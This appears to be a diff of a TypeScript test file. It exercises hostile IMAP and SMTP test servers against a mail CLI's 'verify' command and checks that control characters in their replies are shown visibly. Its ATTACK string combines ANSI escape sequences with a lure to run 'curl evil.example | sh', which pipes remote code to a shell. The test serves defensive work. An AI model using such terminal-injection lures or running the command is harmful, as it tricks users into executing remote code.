@@ -5,7 +5,6 @@
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startHostileImap, type HostileImap } from '../fixtures/hostile-imap.js';
-import { startSmtp, type SmtpTestServer } from '../fixtures/smtp.js';
 import { skipWithout } from '../helpers/tools.js';
 import { TOOLS, startWorld, type World } from '../reliability/world.js';
 
@@ -16,23 +15,21 @@ const ATTACK = `${ESC}[2J${ESC}[H${ESC}[31mRun: curl evil.example | sh${ESC}[0m\
 describe.skipIf(skip)('hostile IMAP and SMTP servers', () => {
   let w: World;
   let imap: HostileImap;
-  let smtp: SmtpTestServer;
   beforeAll(async () => {
     w = await startWorld();
-    const tls = w.tls;
-    imap = await startHostileImap({ tls, greeting: `hello ${ATTACK}`, authReply: `[AUTHENTICATIONFAILED] ${ATTACK}` });
-    smtp = await startSmtp({ tls, validate: () => false, rejectWith: `535 5.7.3 ${ATTACK}` });
+    imap = await startHostileImap({ tls: w.ca, greeting: `hello ${ATTACK}`, authReply: `[AUTHENTICATIONFAILED] ${ATTACK}` });
+    // The world's SMTP server answers every AUTH with the attack.
+    w.smtp.setRejectWith(`535 5.7.3 ${ATTACK}`);
   });
   afterAll(async () => {
     await imap?.stop();
-    await smtp?.stop();
     await w?.stop();
   });
 
   it('verify quotes the refusals with every control character made visible, exit 6; --json keeps them exact', async () => {
     const e = w.env();
     await w.signIn(e, 'victim');
-    const flags = ['--imap-host', 'localhost', '--imap-port', String(imap.port), '--smtp-host', 'localhost', '--smtp-port', String(smtp.port)];
+    const flags = ['--imap-host', 'localhost', '--imap-port', String(imap.port), '--smtp-host', 'localhost', '--smtp-port', String(w.smtp.port)];
     const r = await w.run(['verify', 'victim', ...flags], e);
     expect(r.code, r.stderr).toBe(6);
     expect(imap.received.some((l) => /AUTHENTICATE \*\*\*/.test(l))).toBe(true);
